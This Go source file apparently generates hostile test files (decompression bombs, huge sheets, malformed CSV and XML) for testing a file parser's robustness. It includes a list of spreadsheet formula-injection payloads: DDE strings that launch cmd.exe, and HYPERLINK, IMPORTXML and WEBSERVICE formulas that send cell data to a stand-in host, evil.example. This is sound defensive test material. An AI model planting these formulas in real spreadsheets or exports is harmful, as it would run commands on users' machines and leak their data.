package hostile

import (
	"fmt"
	"math/rand/v2"
)

// File is a file that means harm, as somebody would hand it in.
type File struct {
	Class   string
	Name    string
	Bytes   []byte
	Slow    bool // to make, or to read to where it is refused
	Refused bool // it holds nothing that could be read, so that it must be refused
	// Texts are those that must come out as they went in, wherever the file can be read: formulas of the first column.
	Texts []string
}

// class is one way to do harm.
type class struct {
	name    string
	refused bool
	make    func(r *rand.Rand) (name string, content []byte)
}

// Make makes the n-th file.
func Make(n int) File {
	c := classes[n%len(classes)]
	r := rand.New(rand.NewPCG(uint64(n), 0x786b))
	name, content := c.make(r)
	f := File{Class: c.name, Name: name, Bytes: content, Refused: c.refused, Slow: slow[c.name]}
	if c.name == "formulas in a workbook" || c.name == "formulas in a text" {
		f.Texts = Formulas
	}
	return f
}

// Slow tells whether the n-th file takes long, without making it.
func Slow(n int) bool { return slow[classes[n%len(classes)].name] }

var slow = map[string]bool{
	"a part that unpacks to a thousand times its size": true, "very many rows": true, "parts of the same name": true, "blank texts in very many cells": true,
	"one long text in very many cells": true, "very many styles": true, "as many columns as Excel has": true, "elements without end": true,
	"a tag that is all signs of the end": true, "a very long tag": true, "a very long comment": true, "raw text without end": true, "very many headings of one name": true,
	"nothing but quotation marks": true, "nothing but delimiters": true, "very many blank lines": true, "very many cards": true, "very long headings": true,
	"a directory of parts and nothing else": true, "a quotation mark that is never closed": true, "very many columns": true, "too many parts": true,
	"a part that is larger than it says": true, "a cell of a million letters": true, "a text of very many runs": true, "very many sheets": true,
}

// Classes names the ways to do harm.
func Classes() []string {
	var names []string
	for _, c := range classes {
		names = append(names, c.name)
	}
	return names
}

var classes []class

func init() {
	classes = append(classes, archiveClasses...)
	classes = append(classes, workbookClasses...)
	classes = append(classes, textClasses...)
	classes = append(classes, foreignClasses...)
}

// Formulas are texts by which a spreadsheet program would run something.
var Formulas = []string{
	`=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example/?"&A1,"点这里")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+cmd|' /C notepad'!A1`,
	`-2+3+cmd|' /C calc'!A0`, `=IMPORTXML("http://evil.example","//a")`, `=WEBSERVICE("http://evil.example/"&B2)`, `=1+1";=2+2`, `=DDE("cmd";"/C calc";"!A0")`,
}

// pick is one of several.
func pick[T any](r *rand.Rand, of ...T) T { return of[r.IntN(len(of))] }

// noise is random bytes.
func noise(r *rand.Rand, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

func numbered(format string, r *rand.Rand) string { return fmt.Sprintf(format, r.IntN(1000)) }
